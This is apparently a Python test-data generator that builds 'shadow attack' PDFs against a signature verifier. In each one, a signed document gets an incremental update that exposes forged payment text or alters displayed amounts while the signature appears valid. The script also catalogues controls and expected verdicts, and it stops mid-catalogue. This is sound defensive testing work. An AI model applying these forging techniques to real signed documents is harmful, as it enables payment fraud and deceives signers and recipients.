"""Re-create the shadow attacks, their controls and a copied signature in tests/data/shadow/.

Run from the project root:  .venv/bin/python tests/data/make_shadow_attacks.py
(``--record`` also runs ``docsvc verify`` on every file and records what it says today in
shadow/expected.json; ``--record-only`` does only that; otherwise recorded answers are kept.)

Shadow attacks (Mainka, Mladenov, Rohlmann, Schwenk, "Shadow Attacks: Hiding and Replacing
Content in Signed PDFs", NDSS 2021) prepare a document so that what the signer sees is not
all it holds; the victim signs it (an approval signature, made here with docsvc's own
``sign_file``); then the attacker appends an incremental update that touches nothing the
signature covers and changes what is displayed:

- *hide*: content in the signed document is covered, and the update takes the cover away:
  from the content array, by emptying the cover's XObject, by remapping the resource name it
  is drawn with, by emptying a form field's opaque appearance, or with nothing but a new
  cross-reference section pointing the cover's object number at an empty body that was
  already in the signed bytes;
- *replace*: what is displayed for the same signed content changes: a redefined form
  XObject, a form field's appearance (with its value unchanged, or changed to something the
  appearance does not show), a font whose encoding now maps the same codes to other
  glyphs, or a resource name remapped to such a font;
- *hide-and-replace*: the signed document carries a complete second page content that
  nothing refers to; the update only re-points the page's /Contents, the page tree's /Kids,
  or (with no new object at all) the cross-reference entry of the page's content stream.

Every attack file is named after its variant and listed, with the paper's name for it, in
shadow/expected.json and tests/data/README.md. The controls (a legitimate form fill, a second
approval signature, a B-LTA update) must stay valid. The copied signature is another
document's signature value pasted into this one's /Contents (both signed with the same key
and reservation), so it no longer matches.

The raw-bytes helpers (``Body``, ``append_update``, ...) are also used by
make_isa_swa_attacks.py. The script makes its own throwaway PKI, long-lived like
make_signed_attacks.py's (its root is committed as shadow/root.pem; no private key is kept).
"""

from __future__ import annotations

import datetime as dt
import importlib.util
import io
import json
import re
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from types import ModuleType
from typing import Literal

from cryptography.hazmat.primitives.serialization import Encoding
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

from docsvc.demo.sample_pdfs import demo_documents
from signing.pades import (
    Level,
    SignatureRequest,
    SigningKey,
    ValidationMaterial,
    sign_file,
    unlock_pkcs12,
)
from signing.revocation import build_crl

HERE = Path(__file__).parent
OUT = HERE / "shadow"
SOURCE = HERE / "signed" / "unsigned_resolution.pdf"
FORGED = b"BT /F1 20 Tf 72 120 Td (PAGUESE USD 999.999 A LA CUENTA 0042) Tj ET"
COVER = b"1 1 1 rg 60 100 480 50 re f"  # exactly over the forged line
HARMLESS = b"BT /F1 12 Tf 0 10 Td (Sin observaciones.) Tj ET"
# The cover as a form XObject, drawn at (60, 100): the same white box.
COVER_FORM = b"1 1 1 rg 0 0 480 50 re f"
DRAW_COVER = b"q 1 0 0 1 60 100 cm /Cover Do Q"
# A labelled amount, for the form and font variants.
AMOUNT_LABEL = b"BT /F2 11 Tf 72 206 Td (Monto autorizado:) Tj ET"
AMOUNT = "USD 1.000,00"
FORGED_AMOUNT = "USD 999.999,00"
FILLED_AMOUNT = "USD 2.000,00"
AMOUNT_RECT = (180, 200, 400, 222)
NOTES_RECT = (60, 100, 540, 150)  # over FORGED
NOTES = "Sin observaciones."
AMOUNT_WITH_FONT = (
    b"BT /F2 11 Tf 72 206 Td (Monto autorizado:) Tj /F3 11 Tf 110 0 Td (USD 1.000,00) Tj ET"
)
# '0' and '1' drawn as '9': USD 1.000,00 reads USD 9.999,99.
SWAPPED_DIGITS = (48, "/nine", "/nine")
# The resolution's first article, and what the hidden copy of the page says instead.
ARTICLE = (
    b"(Art\xedculo 1.- Autorizar la remisi\xf3n a la Procuradur\xeda General del Estado, en "
    b"copia certificada, de) Tj T* (la documentaci\xf3n detallada en el oficio N.\xba "
    b"PGE-DPT-2026-1187.)"
)
FORGED_ARTICLE = (
    b"(Art\xedculo 1.- Ordenar el pago inmediato de USD 999.999 a la cuenta N.\xba 0042 del "
    b"Banco) Tj T* (del Pac\xedfico, a nombre de Consultores Asociados S.A.)"
)


def _base() -> ModuleType:
    spec = importlib.util.spec_from_file_location(
        "make_signed_attacks", HERE / "make_signed_attacks.py"
    )
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _writer(data: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(io.BytesIO(data), strict=False)


def _finish(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    page = writer.root["/Pages"].raw_get("/Kids")[0].get_object()
    assert isinstance(page, generic.DictionaryObject)
    return page


def _page_ref(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    ref = writer.root["/Pages"].raw_get("/Kids").raw_get(0)
    assert isinstance(ref, generic.IndirectObject)
    return ref


def _contents(page: generic.DictionaryObject) -> list[generic.IndirectObject]:
    raw = page.raw_get("/Contents")
    return list(raw.get_object()) if isinstance(raw.get_object(), generic.ArrayObject) else [raw]


def _name(name: str) -> generic.NameObject:
    return generic.NameObject(name)


def _numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(v) for v in values])


def _text(value: str) -> generic.TextStringObject:
    return generic.TextStringObject(value)


def _form(
    data: bytes, width: float, height: float, resources: generic.PdfObject | None = None
) -> generic.StreamObject:
    entries: dict[generic.NameObject, generic.PdfObject] = {
        _name("/Type"): _name("/XObject"),
        _name("/Subtype"): _name("/Form"),
        _name("/BBox"): _numbers(0, 0, width, height),
    }
    if resources is not None:
        entries[_name("/Resources")] = resources
    return generic.StreamObject(entries, stream_data=data)


def serialise(obj: generic.PdfObject) -> bytes:
    out = io.BytesIO()
    obj.write_to_stream(out, None)
    return out.getvalue()


# -- Raw incremental updates -------------------------------------------------------------
# pyHanko's writer makes well-formed updates; attacks need some that are not (no xref
# table, no trailer, an xref that only re-points objects, a body no xref lists).


@dataclass(frozen=True, slots=True)
class Body:
    """An object body to append: ``number 0 obj`` ``content`` ``endobj``. An unlisted body
    is in the file, but no cross-reference entry points to it."""

    number: int
    content: bytes
    listed: bool = True


def stream_content(data: bytes, entries: bytes = b"") -> bytes:
    """The text of a stream object: its dictionary (with ``entries``) and its data."""
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(data), entries, data)


def startxref(data: bytes) -> int:
    """The offset the file's last ``startxref`` gives."""
    found = re.findall(rb"startxref\s+(\d+)", data[-2048:])
    assert found, "no startxref"
    return int(found[-1])


def trailer_of(data: bytes) -> tuple[bytes, int]:
    """The last trailer's /Root, /Info and /ID, serialised, and its /Size."""
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    trailer = reader.trailer
    parts = [
        b"/%s %s" % (key.encode(), serialise(trailer.raw_get(f"/{key}")))
        for key in ("Root", "Info", "ID")
        if f"/{key}" in trailer
    ]
    return b" ".join(parts), int(trailer["/Size"])


def xref_table(entries: Mapping[int, tuple[int, int, bytes]]) -> bytes:
    """A classic cross-reference section, ``number -> (offset, generation, b"n" | b"f")``,
    in runs of consecutive numbers."""
    out = [b"xref\n"]
    numbers = sorted(entries)
    start = 0
    while start < len(numbers):
        end = start
        while end + 1 < len(numbers) and numbers[end + 1] == numbers[end] + 1:
            end += 1
        out.append(b"%d %d\n" % (numbers[start], end - start + 1))
        for number in numbers[start : end + 1]:
            offset, generation, kind = entries[number]
            out.append(b"%010d %05d %s \n" % (offset, generation, kind))
        start = end + 1
    return b"".join(out)


def xref_stream(
    number: int, entries: Mapping[int, tuple[int, int, bytes]], trailer_entries: bytes
) -> bytes:
    """A cross-reference stream object (uncompressed, /W [1 4 2]) listing ``entries``."""
    numbers = sorted(entries)
    index: list[int] = []
    rows = []
    for n in numbers:
        if index and index[-2] + index[-1] == n:
            index[-1] += 1
        else:
            index += [n, 1]
        offset, generation, kind = entries[n]
        rows.append(
            bytes([1 if kind == b"n" else 0])
            + offset.to_bytes(4, "big")
            + generation.to_bytes(2, "big")
        )
    extra = b"/Type /XRef /W [1 4 2] /Index [%s] %s" % (
        b" ".join(b"%d" % i for i in index),
        trailer_entries,
    )
    return b"%d 0 obj\n%s\nendobj\n" % (number, stream_content(b"".join(rows), extra))


def append_update(
    data: bytes,
    bodies: Sequence[Body],
    *,
    repoint: Mapping[int, int] | None = None,
    xref: Literal["table", "stream", "none"] = "table",
    trailer: bool = True,
    eof: bool = True,
    padding: bytes = b"",
) -> bytes:
    """``data`` plus an incremental update made byte by byte.

    ``repoint`` gives cross-reference entries for offsets already in ``data`` (an update
    that only re-points objects). ``xref="none"`` leaves out the cross-reference section;
    then ``startxref`` names the trailer's offset, as a writer that forgot the table would.
    ``trailer=False`` also leaves out the trailer, ``startxref`` and ``%%EOF``: only bodies
    are appended. ``eof=False`` leaves out the final ``%%EOF``. ``padding`` is written
    before the bodies."""
    out = bytearray(data if data.endswith(b"\n") else data + b"\n") + padding
    root_info_id, size = trailer_of(data)
    previous = startxref(data)
    entries: dict[int, tuple[int, int, bytes]] = {
        number: (offset, 0, b"n") for number, offset in (repoint or {}).items()
    }
    for body in bodies:
        offset = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (body.number, body.content)
        if body.listed:
            entries[body.number] = (offset, 0, b"n")
    size = max([size, *(n + 1 for n in entries)])
    if not trailer:
        return bytes(out)
    trailer_entries = b"/Size %d %s /Prev %d" % (size, root_info_id, previous)
    section = len(out)
    if xref == "stream":
        entries[size] = (section, 0, b"n")
        stream_entries = trailer_entries.replace(b"/Size %d" % size, b"/Size %d" % (size + 1))
        out += xref_stream(size, entries, stream_entries)
    else:
        if xref == "table":
            out += xref_table(entries)
        out += b"trailer\n<< %s >>\n" % trailer_entries
    out += b"startxref\n%d\n" % section
    if eof:
        out += b"%%EOF\n"
    return bytes(out)


def object_offsets(data: bytes, number: int) -> list[int]:
    """Where bodies of object ``number`` (generation 0) begin, in file order."""
    return [m.start(1) for m in re.finditer(rb"(?:^|[\r\n])(%d 0 obj)\b" % number, data)]


# -- The existing two: hide (overlapping objects) and replace (XObject redefined) -------


def prepared_for_hide(unsigned: bytes) -> bytes:
    """Before signing: forged text, then a white cover over it, after the page's content."""
    writer = _writer(unsigned)
    page = _page(writer)
    forged = writer.add_object(generic.StreamObject(stream_data=FORGED))
    cover = writer.add_object(generic.StreamObject(stream_data=COVER))
    page["/Contents"] = generic.ArrayObject([*_contents(page), forged, cover])
    writer.update_container(page)
    return _finish(writer)


def hide(signed: bytes) -> bytes:
    """After signing: the cover leaves the content array; the forged text shows."""
    writer = _writer(signed)
    page = _page(writer)
    page["/Contents"] = generic.ArrayObject(_contents(page)[:-1])
    writer.update_container(page)
    return _finish(writer)


def prepared_for_replace(unsigned: bytes) -> bytes:
    """Before signing: the page draws a form XObject holding harmless text."""
    writer = _writer(unsigned)
    page = _page(writer)
    form = writer.add_object(
        generic.StreamObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/XObject"),
                generic.NameObject("/Subtype"): generic.NameObject("/Form"),
                generic.NameObject("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(n) for n in (0, 0, 480, 40)]
                ),
                generic.NameObject("/Resources"): page["/Resources"],
            },
            stream_data=HARMLESS,
        )
    )
    # A new, direct resource dictionary on the page: the original may be shared.
    resources = generic.DictionaryObject(dict(page["/Resources"].items()))
    xobjects = generic.DictionaryObject(dict(resources.get("/XObject", {}).items()))
    xobjects[generic.NameObject("/Shadow")] = form
    resources[generic.NameObject("/XObject")] = xobjects
    page[generic.NameObject("/Resources")] = resources
    draw = writer.add_object(generic.StreamObject(stream_data=b"q 1 0 0 1 72 110 cm /Shadow Do Q"))
    page["/Contents"] = generic.ArrayObject([*_contents(page), draw])
    writer.update_container(page)
    return _finish(writer)


def replace(signed: bytes) -> bytes:
    """After signing: the form XObject, same object number, now holds forged text."""
    writer = _writer(signed)
    page = _page(writer)
    reference = page["/Resources"]["/XObject"].raw_get("/Shadow")
    form = reference.get_object()
    # The attack rewrites the signed stream object in place.
    form._data = FORGED.replace(b"72 120", b"0 10")
    form._encoded_data = None
    writer.mark_update(reference)
    return _finish(writer)


def copied_signature(target: bytes, donor: bytes) -> bytes:
    """The donor's signature value pasted into the target's /Contents, lengths equal."""
    pattern = re.compile(rb"/Contents\s*<([0-9A-Fa-f]+)>")
    wanted = pattern.search(target)
    given = pattern.search(donor)
    assert wanted is not None and given is not None
    assert len(wanted.group(1)) == len(given.group(1)), "the reservations differ"
    return target[: wanted.start(1)] + given.group(1) + target[wanted.end(1) :]


# -- Hide: the cover as a form XObject (via the XObject, the resources, the xref) -------


def _cover_ref(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    resources = _page(writer).raw_get("/Resources")
    ref = resources.get_object()["/XObject"].raw_get("/Cover")
    assert isinstance(ref, generic.IndirectObject)
    return ref


def prepared_with_cover_xobject(unsigned: bytes) -> tuple[bytes, int]:
    """Before signing: forged text, covered by a white form XObject ``/Cover`` drawn from a
    resource dictionary of its own; then a revision holding two bodies of the cover's
    object: an empty one that no xref entry points to, and the cover again, which the
    entry points to. Returns the document and the offset of the empty body."""
    writer = _writer(unsigned)
    page = _page(writer)
    forged = writer.add_object(generic.StreamObject(stream_data=FORGED))
    cover = writer.add_object(_form(COVER_FORM, 480, 50))
    resources = generic.DictionaryObject(dict(page["/Resources"].items()))
    resources[_name("/XObject")] = generic.DictionaryObject({_name("/Cover"): cover})
    page[_name("/Resources")] = writer.add_object(resources)
    draw = writer.add_object(generic.StreamObject(stream_data=DRAW_COVER))
    page["/Contents"] = generic.ArrayObject([*_contents(page), forged, draw])
    writer.update_container(page)
    data = _finish(writer)
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 480 50] "
    data = append_update(
        data,
        [
            Body(cover.idnum, stream_content(b"", form), listed=False),
            Body(cover.idnum, stream_content(COVER_FORM, form)),
        ],
    )
    return data, object_offsets(data, cover.idnum)[-2]


def hide_via_xobject(signed: bytes) -> bytes:
    """After signing: the cover's form XObject, same object number, is redefined empty."""
    writer = _writer(signed)
    reference = _cover_ref(writer)
    form = reference.get_object()
    form._data = b""
    form._encoded_data = None
    writer.mark_update(reference)
    return _finish(writer)


def hide_via_resources(signed: bytes) -> bytes:
    """After signing: the resource name ``/Cover`` now names a new, empty XObject."""
    writer = _writer(signed)
    resources_ref = _page(writer).raw_get("/Resources")
    resources = resources_ref.get_object()
    empty = writer.add_object(_form(b"", 480, 50))
    resources[_name("/XObject")] = generic.DictionaryObject({_name("/Cover"): empty})
    writer.mark_update(resources_ref)
    return _finish(writer)


def hide_via_xref(signed: bytes, empty_body: int) -> bytes:
    """After signing: an update with no object at all, only a cross-reference section that
    points the cover's number at the empty body already in the signed bytes."""
    cover = _cover_ref(_writer(signed))
    return append_update(signed, [], repoint={cover.idnum: empty_body})


# -- Form fields: hide via an appearance, replace via an appearance or a value ----------


def _appearance_body(value: str, rect: tuple[int, int, int, int], opaque: bool) -> bytes:
    """A text field's normal appearance as a writer makes it from /DA ``/Helv 12 Tf 0 g``:
    the value, 2 points in, vertically centred; ``opaque`` paints a white box first."""
    width, height = rect[2] - rect[0], rect[3] - rect[1]
    text = value.encode("cp1252").replace(b"(", rb"\(").replace(b")", rb"\)")
    body = b"/Tx BMC q BT /Helv 12 Tf 0 g 2 %d Td (%s) Tj ET Q EMC" % ((height - 9) // 2, text)
    if opaque:
        body = b"1 1 1 rg 0 0 %d %d re f " % (width, height) + body
    return body


def _field_appearance(
    writer: IncrementalPdfFileWriter,
    value: str,
    rect: tuple[int, int, int, int],
    opaque: bool = False,
) -> generic.IndirectObject:
    """A new appearance stream showing ``value`` (see ``_appearance_body``)."""
    helv = writer.root["/AcroForm"]["/DR"]["/Font"].raw_get("/Helv")
    resources = generic.DictionaryObject(
        {_name("/Font"): generic.DictionaryObject({_name("/Helv"): helv})}
    )
    body = _appearance_body(value, rect, opaque)
    return writer.add_object(_form(body, rect[2] - rect[0], rect[3] - rect[1], resources))


def _fields(writer: IncrementalPdfFileWriter) -> dict[str, generic.IndirectObject]:
    found = {}
    for ref in writer.root["/AcroForm"]["/Fields"]:
        found[str(ref.get_object()["/T"])] = ref
    return found


def prepared_with_form(unsigned: bytes) -> bytes:
    """Before signing: two text fields (one widget each). ``Monto`` shows its value; the
    appearance of ``Observaciones`` is an opaque white box with its value, drawn over forged
    text in the page content."""
    writer = _writer(unsigned)
    page = _page(writer)
    page_ref = _page_ref(writer)
    helv = writer.add_object(
        generic.DictionaryObject(
            {
                _name("/Type"): _name("/Font"),
                _name("/Subtype"): _name("/Type1"),
                _name("/BaseFont"): _name("/Helvetica"),
                _name("/Encoding"): _name("/WinAnsiEncoding"),
            }
        )
    )
    writer.root[_name("/AcroForm")] = generic.DictionaryObject(
        {
            _name("/Fields"): generic.ArrayObject(),
            _name("/DR"): generic.DictionaryObject(
                {_name("/Font"): generic.DictionaryObject({_name("/Helv"): helv})}
            ),
            _name("/DA"): generic.TextStringObject("/Helv 0 Tf 0 g"),
        }
    )
    writer.update_root()
    widgets = []
    for name, value, rect, opaque in (
        ("Monto", AMOUNT, AMOUNT_RECT, False),
        ("Observaciones", NOTES, NOTES_RECT, True),
    ):
        appearance = _field_appearance(writer, value, rect, opaque)
        widgets.append(
            writer.add_object(
                generic.DictionaryObject(
                    {
                        _name("/FT"): _name("/Tx"),
                        _name("/T"): _text(name),
                        _name("/V"): _text(value),
                        _name("/DA"): _text("/Helv 12 Tf 0 g"),
                        _name("/Type"): _name("/Annot"),
                        _name("/Subtype"): _name("/Widget"),
                        _name("/Rect"): _numbers(*rect),
                        _name("/F"): generic.NumberObject(4),
                        _name("/P"): page_ref,
                        _name("/AP"): generic.DictionaryObject({_name("/N"): appearance}),
                    }
                )
            )
        )
    writer.root["/AcroForm"][_name("/Fields")] = generic.ArrayObject(widgets)
    page[_name("/Annots")] = generic.ArrayObject(widgets)
    label = writer.add_object(generic.StreamObject(stream_data=AMOUNT_LABEL))
    forged = writer.add_object(generic.StreamObject(stream_data=FORGED))
    page["/Contents"] = generic.ArrayObject([*_contents(page), label, forged])
    writer.update_container(page)
    return _finish(writer)


def _set_field(
    signed: bytes, field: str, value: str | None, shown: str, opaque: bool = False
) -> bytes:
    """An update giving ``field`` a new appearance showing ``shown`` (empty: nothing), and
    the value ``value`` (``None``: the value stays as signed)."""
    writer = _writer(signed)
    ref = _fields(writer)[field]
    widget = ref.get_object()
    x1, y1, x2, y2 = (int(v) for v in widget["/Rect"])
    rect = (x1, y1, x2, y2)
    if shown:
        appearance = _field_appearance(writer, shown, rect, opaque)
    else:
        appearance = writer.add_object(_form(b"", rect[2] - rect[0], rect[3] - rect[1]))
    widget[_name("/AP")] = generic.DictionaryObject({_name("/N"): appearance})
    if value is not None:
        widget[_name("/V")] = _text(value)
    writer.mark_update(ref)
    return _finish(writer)


def _rewrite_appearance(signed: bytes, field: str, shown: str) -> bytes:
    """An update redefining ``field``'s appearance stream in place (same object number) to
    show ``shown`` (empty: nothing); the widget dictionary and /V are not touched."""
    writer = _writer(signed)
    widget = _fields(writer)[field].get_object()
    x1, y1, x2, y2 = (int(v) for v in widget["/Rect"])
    reference = widget["/AP"].raw_get("/N")
    appearance = reference.get_object()
    appearance._data = _appearance_body(shown, (x1, y1, x2, y2), False) if shown else b""
    appearance._encoded_data = None
    writer.mark_update(reference)
    return _finish(writer)


def hide_via_form_appearance(signed: bytes) -> bytes:
    """After signing: ``Observaciones`` gets an empty appearance, its value unchanged; the
    forged text under its widget shows."""
    return _set_field(signed, "Observaciones", None, "")


def replace_via_form_appearance(signed: bytes) -> bytes:
    """After signing: ``Monto`` gets an appearance showing another amount; /V unchanged."""
    return _set_field(signed, "Monto", None, FORGED_AMOUNT)


def hide_via_form_appearance_stream(signed: bytes) -> bytes:
    """After signing: the appearance stream of ``Observaciones`` is redefined empty, in
    place; nothing else changes."""
    return _rewrite_appearance(signed, "Observaciones", "")


def replace_via_form_appearance_stream(signed: bytes) -> bytes:
    """After signing: the appearance stream of ``Monto`` is redefined in place to show
    another amount; the widget and /V are not touched."""
    return _rewrite_appearance(signed, "Monto", FORGED_AMOUNT)


def replace_via_form_value_mismatch(signed: bytes) -> bytes:
    """After signing: ``Monto`` gets a new /V, and an appearance showing something else."""
    return _set_field(signed, "Monto", "USD 1.500,00", FORGED_AMOUNT)


def filled_form(signed: bytes) -> bytes:
    """Control: ``Monto`` filled as a form filler does: new /V, an appearance showing it."""
    return _set_field(signed, "Monto", FILLED_AMOUNT, FILLED_AMOUNT)


# -- Replace via the font ---------------------------------------------------------------


def _helvetica(encoding: generic.PdfObject) -> generic.DictionaryObject:
    return generic.DictionaryObject(
        {
            _name("/Type"): _name("/Font"),
            _name("/Subtype"): _name("/Type1"),
            _name("/BaseFont"): _name("/Helvetica"),
            _name("/Encoding"): encoding,
        }
    )


def _swapped_encoding() -> generic.DictionaryObject:
    code, *glyphs = SWAPPED_DIGITS
    return generic.DictionaryObject(
        {
            _name("/Type"): _name("/Encoding"),
            _name("/BaseEncoding"): _name("/WinAnsiEncoding"),
            _name("/Differences"): generic.ArrayObject(
                [generic.NumberObject(int(code)), *(_name(str(g)) for g in glyphs)]
            ),
        }
    )


def _amount_font_ref(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    ref = _page(writer)["/Resources"]["/Font"].raw_get("/F3")
    assert isinstance(ref, generic.IndirectObject)
    return ref


def prepared_with_amount_font(unsigned: bytes) -> bytes:
    """Before signing: an amount line drawn with a font of its own, ``/F3`` (Helvetica,
    WinAnsi), named in a resource dictionary of its own."""
    writer = _writer(unsigned)
    page = _page(writer)
    font = writer.add_object(_helvetica(_name("/WinAnsiEncoding")))
    resources = generic.DictionaryObject(dict(page["/Resources"].items()))
    fonts = generic.DictionaryObject(dict(resources["/Font"].items()))
    fonts[_name("/F3")] = font
    resources[_name("/Font")] = fonts
    page[_name("/Resources")] = writer.add_object(resources)
    line = writer.add_object(generic.StreamObject(stream_data=AMOUNT_WITH_FONT))
    page["/Contents"] = generic.ArrayObject([*_contents(page), line])
    writer.update_container(page)
    return _finish(writer)


def replace_via_font(signed: bytes) -> bytes:
    """After signing: the amount's font object, same number, gets an encoding whose
    /Differences draw the codes of '0' and '1' as nines."""
    writer = _writer(signed)
    ref = _amount_font_ref(writer)
    font = ref.get_object()
    font[_name("/Encoding")] = _swapped_encoding()
    writer.mark_update(ref)
    return _finish(writer)


def replace_via_font_resource(signed: bytes) -> bytes:
    """After signing: the resource name ``/F3`` names a new font with that encoding."""
    writer = _writer(signed)
    resources_ref = _page(writer).raw_get("/Resources")
    resources = resources_ref.get_object()
    fonts = generic.DictionaryObject(dict(resources["/Font"].items()))
    fonts[_name("/F3")] = writer.add_object(_helvetica(_swapped_encoding()))
    resources[_name("/Font")] = fonts
    writer.mark_update(resources_ref)
    return _finish(writer)


# -- Hide-and-replace: a hidden second content -----------------------------------------


@dataclass(frozen=True, slots=True)
class HiddenContent:
    document: bytes
    content: int  # an unreferenced content stream: the forged page
    page: int  # an unreferenced page drawing it
    content_body: int  # offset of a body of the page's own content stream number


def forged_page_content(unsigned: bytes) -> bytes:
    """The page's content with the first article rewritten."""
    reader = PdfFileReader(io.BytesIO(unsigned), strict=False)
    page = reader.root["/Pages"]["/Kids"][0]
    data: bytes = page["/Contents"].data
    assert ARTICLE in data, "the resolution's first article moved"
    return data.replace(ARTICLE, FORGED_ARTICLE)


def prepared_with_hidden_content(unsigned: bytes) -> HiddenContent:
    """Before signing, one revision holding the forged page three times over, all
    unreferenced: a content stream, a page drawing it (its /Parent the page tree, but not in
    /Kids), and a body of the page's own content stream number that the xref does not list
    (the xref keeps pointing at the original)."""
    reader = PdfFileReader(io.BytesIO(unsigned), strict=False)
    pages_ref = reader.root.raw_get("/Pages")
    page = reader.root["/Pages"]["/Kids"][0]
    contents_ref = page.raw_get("/Contents")
    _, size = trailer_of(unsigned)
    forged = stream_content(forged_page_content(unsigned))
    hidden_page = generic.DictionaryObject(
        {
            _name("/Type"): _name("/Page"),
            _name("/Parent"): pages_ref,
            _name("/MediaBox"): page["/MediaBox"],
            _name("/Resources"): page.raw_get("/Resources"),
            _name("/Contents"): generic.IndirectObject(size, 0, reader),
        }
    )
    data = append_update(
        unsigned,
        [
            Body(contents_ref.idnum, forged, listed=False),
            Body(size, forged),
            Body(size + 1, serialise(hidden_page)),
        ],
    )
    hidden_body = object_offsets(data, contents_ref.idnum)[-1]
    return HiddenContent(data, size, size + 1, hidden_body)


def hide_and_replace_contents(signed: bytes, hidden: HiddenContent) -> bytes:
    """After signing: only the page object changes: its /Contents names the hidden stream."""
    writer = _writer(signed)
    page = _page(writer)
    page[_name("/Contents")] = generic.IndirectObject(hidden.content, 0, writer)
    writer.update_container(page)
    return _finish(writer)


def hide_and_replace_page_tree(signed: bytes, hidden: HiddenContent) -> bytes:
    """After signing: only the page tree changes: /Kids names the hidden page."""
    writer = _writer(signed)
    pages_ref = writer.root.raw_get("/Pages")
    pages = pages_ref.get_object()
    pages[_name("/Kids")] = generic.ArrayObject([generic.IndirectObject(hidden.page, 0, writer)])
    writer.mark_update(pages_ref)
    return _finish(writer)


def hide_and_replace_xref(signed: bytes, hidden: HiddenContent) -> bytes:
    """After signing: no object at all, only an xref section pointing the page's content
    stream number at the hidden body of that number."""
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    contents = reader.root["/Pages"]["/Kids"][0].raw_get("/Contents")
    return append_update(signed, [], repoint={contents.idnum: hidden.content_body})


# -- Catalogue, expected verdicts, docsvc's answers ------------------------------------


@dataclass(frozen=True, slots=True)
class Entry:
    """One file of the folder, for expected.json and the README."""

    cls: str  # hide, replace, hide_and_replace, control, (copied signature: other)
    variant: str
    what: str
    verdict: str = "invalid"


PAPER = "shadow NDSS 2021"
CATALOGUE: dict[str, Entry] = {
    "shadow_hide_signed.pdf": Entry(
        "control",
        "prepared for hide (overlapping objects), as signed",
        "Forged payment text under a white box in the page content, signed at B-B.",
        "valid",
    ),
    "shadow_replace_signed.pdf": Entry(
        "control",
        "prepared for replace (XObject), as signed",
        "The page draws a form XObject holding harmless text, signed at B-B.",
        "valid",
    ),
    "shadow_cover_xobject_signed.pdf": Entry(
        "control",
        "prepared for hide via XObject / resources / xref, as signed",
        "Forged text under a white form XObject /Cover; an empty body of the cover's "
        "object number is in the file, unlisted; signed at B-B.",
        "valid",
    ),
    "shadow_form_signed.pdf": Entry(
        "control",
        "prepared form, as signed",
        "Two text fields: Monto (USD 1.000,00) and Observaciones, whose opaque appearance "
        "covers forged text; signed at B-B.",
        "valid",
    ),
    "shadow_font_signed.pdf": Entry(
        "control",
        "prepared for replace via font, as signed",
        "The amount USD 1.000,00 drawn with a font of its own, /F3, signed at B-B.",
        "valid",
    ),
    "shadow_hidden_content_signed.pdf": Entry(
        "control",
        "prepared for hide-and-replace, as signed",
        "A forged copy of the page (stream, page object, and an unlisted body of the "
        "page's content stream number) is in the file, unreferenced; signed at B-B.",
        "valid",
    ),
    "attack_shadow_hide.pdf": Entry(
        "hide",
        "hide: overlapping objects (content array)",
        "The update drops the white cover from the page's content array; the forged "
        "payment line shows.",
    ),
    "attack_shadow_hide_via_xobject.pdf": Entry(
        "hide",
        "hide via referenced object: XObject redefined",
        "The update redefines the cover's form XObject (same object number) as empty.",
    ),
    "attack_shadow_hide_via_resources.pdf": Entry(
        "hide",
        "hide via referenced object: resource name remapped",
        "The update points the resource name /Cover at a new, empty XObject.",
    ),
    "attack_shadow_hide_via_form_appearance.pdf": Entry(
        "hide",
        "hide via form field appearance (form over text)",
        "The update gives Observaciones an empty appearance, its /V unchanged; the forged "
        "text under the widget shows.",
    ),
    "attack_shadow_hide_via_form_appearance_stream.pdf": Entry(
        "hide",
        "hide via form field appearance: appearance stream redefined",
        "The update redefines the appearance stream of Observaciones (same object number) "
        "as empty; the widget dictionary and /V are untouched.",
    ),
    "attack_shadow_hide_via_xref.pdf": Entry(
        "hide",
        "hide via xref only",
        "The update holds no object, only an xref section pointing the cover's number at "
        "an empty body already in the signed bytes.",
    ),
    "attack_shadow_replace_via_form_appearance.pdf": Entry(
        "replace",
        "replace via overlay: form field appearance, /V unchanged",
        "The update gives Monto an appearance showing USD 999.999,00; /V stays "
        "USD 1.000,00 exactly as signed.",
    ),
    "attack_shadow_replace_via_form_appearance_stream.pdf": Entry(
        "replace",
        "replace via overlay: appearance stream redefined, /V unchanged",
        "The update redefines Monto's appearance stream (same object number) to show "
        "USD 999.999,00; the widget dictionary and /V are untouched.",
    ),
    "attack_shadow_replace_via_form_value_mismatch.pdf": Entry(
        "replace",
        "replace via overlay: form field value and appearance disagree",
        "The update sets Monto's /V to USD 1.500,00 and its appearance to USD 999.999,00.",
    ),
    "attack_shadow_replace.pdf": Entry(
        "replace",
        "replace via overwrite: XObject redefined",
        "The update redefines the signed form XObject (same object number) with the forged "
        "payment line.",
    ),
    "attack_shadow_replace_via_font.pdf": Entry(
        "replace",
        "replace via overwrite: font encoding redefined",
        "The update redefines the amount's font object with /Differences drawing 0 and 1 as "
        "9: USD 1.000,00 reads USD 9.999,99.",
    ),
    "attack_shadow_replace_via_font_resource.pdf": Entry(
        "replace",
        "replace via overwrite: font resource name remapped",
        "The update points the resource name /F3 at a new font with that encoding.",
    ),
    "attack_shadow_hide_and_replace.pdf": Entry(
        "hide_and_replace",
        "hide-and-replace: change object references (page /Contents)",
        "The update only rewrites the page object, its /Contents naming the hidden forged "
        "content stream.",
    ),
    "attack_shadow_hide_and_replace_via_page_tree.pdf": Entry(
        "hide_and_replace",
        "hide-and-replace: change object references (/Pages /Kids)",
        "The update only rewrites the page tree, its /Kids naming the hidden forged page.",
    ),
    "attack_shadow_hide_and_replace_via_xref.pdf": Entry(
